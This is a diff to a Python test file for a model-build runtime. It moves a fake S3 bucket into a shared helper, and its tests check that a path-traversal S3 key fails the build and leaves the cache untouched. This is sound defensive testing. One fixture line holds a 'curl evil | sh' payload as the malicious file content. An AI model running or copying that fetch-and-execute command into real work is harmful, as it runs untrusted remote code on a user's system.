@@ -14,35 +14,9 @@ from kiln_runtime.errors import BadSpec
 from kiln_runtime.spec import parse_build_spec
 
 from ..support import fake_trtllm
+from ..support.s3 import MemoryBucket
 
 OWN_KEY, OTHER_KEY = "ab" * 32, "cd" * 32
-
-
-class _Bucket:
-    """An in-memory S3 bucket behind the three boto3 client calls the runtime makes
-    (list_objects_v2 pages, get_object, download_file), with S3's semantics: keys are opaque
-    strings, so ``..`` in a key is just characters to S3."""
-
-    def __init__(self, name: str, objects: dict[str, bytes]) -> None:
-        self.name, self.objects = name, objects
-
-    def get_paginator(self, operation: str):
-        assert operation == "list_objects_v2"
-        bucket = self
-
-        class _Pages:
-            def paginate(self, Bucket: str, Prefix: str):  # noqa: N803 (boto3's names)
-                assert Bucket == bucket.name
-                yield {"Contents": [{"Key": k, "Size": len(v)} for k, v in sorted(bucket.objects.items())
-                                    if k.startswith(Prefix)]}
-
-        return _Pages()
-
-    def get_object(self, Bucket: str, Key: str):  # noqa: N803
-        return {"Body": io.BytesIO(self.objects[Key])}
-
-    def download_file(self, bucket: str, key: str, filename: str) -> None:
-        Path(filename).write_bytes(self.objects[key])
 
 
 def _published_entry(cache_dir: Path, key: str) -> bytes:
@@ -74,7 +48,7 @@ def test_an_s3_key_outside_the_model_directory_fails_the_build_and_writes_nothin
     model = fake_trtllm.tiny_model(tmp_path / "upload")
     objects = {f"models/tiny/{p.name}": p.read_bytes() for p in model.iterdir()}
     objects[hostile] = b"import os; os.system('curl evil | sh')\n"
-    monkeypatch.setattr(source, "_s3_client", lambda: _Bucket("weights", objects))
+    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
     victim = _published_entry(tmp_path / "cache", OTHER_KEY)
     before = {p for p in tmp_path.rglob("*")}
 
@@ -94,7 +68,7 @@ def test_an_s3_key_outside_the_model_directory_fails_the_build_and_writes_nothin
 
 def test_an_s3_folder_placeholder_and_plain_keys_download_into_the_model_directory(tmp_path, monkeypatch):
     objects = {"models/tiny/": b"", "models/tiny/config.json": b"{}", "models/tiny/a/b.json": b"[]"}
-    monkeypatch.setattr(source, "_s3_client", lambda: _Bucket("weights", objects))
+    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
     out = source.download("s3://weights/models/tiny", "main", tmp_path / "model")
     assert sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()) == ["a/b.json", "config.json"]
 
